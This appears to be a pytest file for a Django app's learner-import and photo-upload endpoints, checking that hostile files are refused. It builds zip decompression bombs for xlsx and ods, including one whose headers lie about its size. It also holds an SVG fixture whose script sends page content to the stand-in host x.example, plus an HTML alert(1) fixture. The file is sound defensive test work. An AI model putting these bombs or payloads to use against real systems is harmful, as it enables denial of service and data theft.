"""Hostile uploads: files built to fool or overload the learner import and the photo upload.

Each is refused with a Vietnamese message beside the field, nothing is saved (no import, no learner, no file
in MEDIA_ROOT), memory stays bounded and the refusal comes before the file is parsed.
"""

import io
import resource
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils.translation import gettext, override
from django_scopes import scope
from PIL import Image

from lotrinh.conftest import client_for
from lotrinh.core.errors import ApplicationError
from lotrinh.people import import_services
from lotrinh.people.importing import headers, reader
from lotrinh.people.importing.messages import FILE_PROBLEMS
from lotrinh.people.models import ImportJob, Learner
from lotrinh.people.tests import files

MB = 1024 * 1024
MEMORY_BOUND = 200 * MB
CHUNK = 16 * MB


def vi(message, **params) -> str:
    with override("vi"):
        text = gettext(message) if isinstance(message, str) else str(message)  # a msgid, or a lazy string
    return text % params if params else text


def upload(client, center, data: bytes, name: str):
    return client.post(f"/c/{center.slug}/hoc-vien/nhap/tai-len/", {"file": SimpleUploadedFile(name, data)})


def media_files() -> list[Path]:
    return [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]


def assert_refused(response, center, message: str) -> None:
    """422 with the message beside the file field, and nothing kept anywhere."""
    assert response.status_code == 422
    content = response.content.decode()
    assert 'class="form-row has-error"' in content
    assert message in content, message
    with scope(center=center):
        assert not ImportJob.objects.exists()
        assert not Learner.objects.exists()
    assert media_files() == []


@contextmanager
def bounded(seconds: float) -> Iterator[None]:
    """Python allocations (tracemalloc) and the process's peak resident size both stay under MEMORY_BOUND."""
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    tracemalloc.start()
    started = time.perf_counter()
    try:
        yield
    finally:
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    rss_growth = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - rss_before
    assert peak < MEMORY_BOUND, f"{peak / MB:.0f} MB allocated"
    assert rss_growth < MEMORY_BOUND, f"resident size grew by {rss_growth / MB:.0f} MB"
    assert elapsed < seconds, f"{elapsed:.1f} s"


# --- Building the hostile files ------------------------------------------------------------------------


class _RepeatingDeflate:
    """A deflate compressor for a stream of one chunk written again and again: each chunk ends with a full
    flush (no reference back across it), so its compressed form can be reused, and gigabytes cost nothing."""

    def __init__(self) -> None:
        self._zlib = zlib.compressobj(9, zlib.DEFLATED, -15)
        self._cache: dict[bytes, bytes] = {}

    def compress(self, data: bytes) -> bytes:
        if data not in self._cache:
            self._cache[data] = self._zlib.compress(data) + self._zlib.flush(zlib.Z_FULL_FLUSH)
        return self._cache[data]

    def flush(self) -> bytes:
        return self._zlib.flush()


def zip_with_padding(base: bytes, name: str, size: int, monkeypatch) -> bytes:
    """``base`` (an xlsx or ods) with its member ``name`` replaced by ``size`` bytes of XML-looking padding."""
    buffer = io.BytesIO()
    chunk = b"<c><v>0</v></c>" * (CHUNK // 15)
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename != name:
                archive.writestr(member, source.read(member))
        with monkeypatch.context() as patch:
            patch.setattr(zipfile, "_get_compressor", lambda *args: _RepeatingDeflate())
            with archive.open(name, "w", force_zip64=size > zipfile.ZIP64_LIMIT) as stream:
                for _ in range(size // len(chunk)):
                    stream.write(chunk)
    return buffer.getvalue()


def xlsx_with_sheet(rows: Iterator[bytes], dimension: str) -> bytes:
    """A real xlsx whose first sheet is replaced by the given rows, with a dimension tag that may lie."""
    base = files.xlsx_bytes([["Họ và tên", "Ngày sinh", "Giới tính"]])
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(member, source.read(member))
        with archive.open("xl/worksheets/sheet1.xml", "w") as stream:
            stream.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet '
                b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<dimension ref="' + dimension.encode() + b'"/><sheetData>'
            )
            for row in rows:
                stream.write(row)
            stream.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def lie_about_size(data: bytes, name: str, declared: int) -> bytes:
    """The zip (without zip64) with ``name``'s uncompressed size rewritten to ``declared`` in both headers."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        member, central = archive.getinfo(name), archive.start_dir
    patched = bytearray(data)
    struct.pack_into("<I", patched, member.header_offset + 22, declared)  # the local file header
    while struct.unpack_from("<I", patched, central + 42)[0] != member.header_offset:
        central = patched.find(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", patched, central + 24, declared)  # its central directory entry
    return bytes(patched)


# --- The learner import --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "problem"),
    [
        (files.PNG_BYTES, "danh-sach.xlsx", "not_spreadsheet"),
        (
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 256 >>\nstream\n" + bytes(range(256)),
            "ds.xls",
            "not_spreadsheet",
        ),
        (b"PK\x03\x04 a zip that is not one", "danh-sach.ods", "unreadable"),
        (b"", "danh-sach.xlsx", "The submitted file is empty."),  # Django's own file field says it first
        (b"   \r\n\t\r\n", "danh-sach.csv", "empty"),
    ],
    ids=["png-as-xlsx", "pdf-as-xls", "broken-zip-as-ods", "empty", "blank"],
)
def test_it_refuses_a_file_that_is_not_a_spreadsheet(center_a, officer, data, name, problem):
    response = upload(client_for(officer), center_a, data, name)
    assert_refused(response, center_a, vi(FILE_PROBLEMS.get(problem, problem)))


def test_it_refuses_plain_text_renamed_xlsx_for_having_no_list_in_it(center_a, officer):
    response = upload(client_for(officer), center_a, "Xin chào, đây không phải danh sách.\n".encode(), "ds.xlsx")
    assert_refused(response, center_a, vi(FILE_PROBLEMS["no_header"], rows=headers.SCAN_ROWS))


def test_it_refuses_a_100_mb_upload_by_its_announced_size_before_reading_it(center_a, officer):
    client = client_for(officer)
    response = client.post(
        f"/c/{center_a.slug}/hoc-vien/nhap/tai-len/",
        {"file": SimpleUploadedFile("lon.xlsx", b"PK\x03\x04")},
        CONTENT_LENGTH=str(100 * MB),
    )
    assert not hasattr(response.wsgi_request, "_files")  # the body was never parsed
    assert_refused(response, center_a, vi(FILE_PROBLEMS["too_large"], size=20))


def test_it_refuses_a_100_mb_file_by_its_size_without_reading_it(center_a, officer, tmp_path):
    sparse = tmp_path / "lon.xlsx"
    with sparse.open("wb") as handle:
        handle.truncate(100 * MB)  # a sparse file: 100 MB long, nothing on disk, nothing in memory
    with sparse.open("rb") as handle, bounded(seconds=2), scope(center=center_a):
        with pytest.raises(ApplicationError) as refused:
            import_services.import_job_create(center=center_a, actor=officer, upload=File(handle, name="lon.xlsx"))
        assert handle.tell() == 0  # not a byte read
    assert refused.value.message == vi(FILE_PROBLEMS["too_large"], size=20)
    with scope(center=center_a):
        assert not ImportJob.objects.exists()


@pytest.fixture(scope="module")
def xlsx_bomb() -> bytes:
    """An xlsx of 2 MB whose first sheet (the one calamine would read) unpacks to 2 GB."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        return zip_with_padding(files.messy_xlsx(), "xl/worksheets/sheet1.xml", 2048 * MB + CHUNK, monkeypatch)


def test_it_builds_a_real_bomb(xlsx_bomb):
    assert len(xlsx_bomb) < 20 * MB
    with zipfile.ZipFile(io.BytesIO(xlsx_bomb)) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size > 2 * 1024 * MB
        with archive.open("xl/worksheets/sheet1.xml") as stream:
            assert stream.read(15) == b"<c><v>0</v></c>"  # it really inflates: the member is valid deflate


def test_it_refuses_a_decompression_bomb_before_inflating_it(center_a, officer, xlsx_bomb):
    with pytest.raises(reader.ReadError) as caught:
        reader.check_archive(xlsx_bomb)
    assert caught.value.code == "unpacks_too_large"
    client = client_for(officer)
    with bounded(seconds=5):
        response = upload(client, center_a, xlsx_bomb, "danh-sach.xlsx")
    assert_refused(response, center_a, vi(FILE_PROBLEMS["unpacks_too_large"], size=100))


def test_it_refuses_an_ods_bomb(center_a, officer, monkeypatch):
    bomb = zip_with_padding(files.ods_bytes(files.simple_rows()), "content.xml", 160 * MB, monkeypatch)
    with bounded(seconds=5):
        response = upload(client_for(officer), center_a, bomb, "danh-sach.ods")
    assert_refused(response, center_a, vi(FILE_PROBLEMS["unpacks_too_large"], size=100))


def test_it_refuses_a_bomb_that_lies_about_its_size(center_a, officer, monkeypatch):
    # 200 MB of padding declared as under 1 MB: the ratio and the total look honest, the stream is not.
    honest = zip_with_padding(files.messy_xlsx(), "xl/worksheets/sheet1.xml", 200 * MB, monkeypatch)
    liar = lie_about_size(honest, "xl/worksheets/sheet1.xml", 1_000_000)
    with zipfile.ZipFile(io.BytesIO(liar)) as archive:
        assert sum(m.file_size for m in archive.infolist()) < 2 * MB
    with pytest.raises(reader.ReadError) as caught:
        reader.check_archive(liar)  # the stream is inflated only up to what it declares, then fails its CRC
    assert caught.value.code == "unreadable"
    with bounded(seconds=5):
        response = upload(client_for(officer), center_a, liar, "danh-sach.xlsx")
    assert_refused(response, center_a, vi(FILE_PROBLEMS["unreadable"]))


def test_it_refuses_a_million_row_sheet_whose_dimension_tag_lies(center_a, officer):
    rows = (
        b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(start, start + 10_000))
        for start in range(1, 1_000_001, 10_000)
    )
    data = xlsx_with_sheet(rows, dimension="A1:A2")
    with bounded(seconds=30):
        response = upload(client_for(officer), center_a, data, "danh-sach.xlsx")
    assert_refused(response, center_a, vi(FILE_PROBLEMS["too_many_rows"], max="100.000"))


def test_it_refuses_a_million_row_csv_and_stops_reading_at_the_limit(center_a, officer):
    data = "Họ và tên;Ngày sinh;Giới tính\n".encode() + b"A;01/01/2009;Nam\n" * 1_000_000
    with bounded(seconds=10):
        response = upload(client_for(officer), center_a, data, "danh-sach.csv")
    assert_refused(response, center_a, vi(FILE_PROBLEMS["too_many_rows"], max="100.000"))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_it_takes_a_list_at_the_row_limit_and_refuses_one_row_more(center_a, officer, kind):
    rows = files.simple_rows()  # a header and three learners: four rows
    data = files.csv_bytes(rows) if kind == "csv" else files.xlsx_bytes(rows)
    with override_settings(LOTRINH_IMPORT_MAX_ROWS=3):
        response = upload(client_for(officer), center_a, data, f"ds.{kind}")
    assert_refused(response, center_a, vi(FILE_PROBLEMS["too_many_rows"], max="3"))
    with override_settings(LOTRINH_IMPORT_MAX_ROWS=4):
        assert upload(client_for(officer), center_a, data, f"ds.{kind}").status_code == 302


def test_it_reads_an_honest_file_through_the_archive_check():
    reader.check_archive(files.messy_xlsx())
    reader.check_archive(files.ods_bytes(files.simple_rows()))
    assert reader.read_sheets(files.messy_xlsx())[0] == reader.XLSX


# --- The learner photo ---------------------------------------------------------------------------------

SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="60" height="80">'
    b'<script>fetch("/c/").then(r => r.text()).then(t => navigator.sendBeacon("//x.example", t))</script>'
    b'<rect width="60" height="80" fill="red"/></svg>'
)


def _png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (60, 80), (200, 120, 40)).save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "name", "content_type"),
    [
        (b"Day khong phai la anh, chi la chu.\n", "anh.jpg", "image/jpeg"),
        (SVG, "anh.svg", "image/svg+xml"),
        (SVG, "anh.png", "image/png"),
        (b"<html><script>alert(1)</script></html>", "anh.jpg", "image/jpeg"),
        (_png()[:40], "anh.png", "image/png"),  # a PNG cut short
        (b"", "anh.jpg", "image/jpeg"),
    ],
    ids=["text-as-jpg", "svg-with-script", "svg-as-png", "html-as-jpg", "truncated-png", "empty"],
)
def test_it_refuses_a_photo_that_is_not_an_image(center_a, alice, hang, content, name, content_type):
    photo = SimpleUploadedFile(name, content, content_type=content_type)
    response = client_for(alice).post(f"/c/{center_a.slug}/hoc-vien/{hang.pk}/anh/doi/", {"photo": photo})
    assert response.status_code == 422
    content = response.content.decode()
    assert vi("The file is not a photo: upload a JPEG or PNG image.") in content or (
        vi("The submitted file is empty.") in content
    )
    with scope(center=center_a):
        hang.refresh_from_db()
    assert not hang.photo
    assert media_files() == []
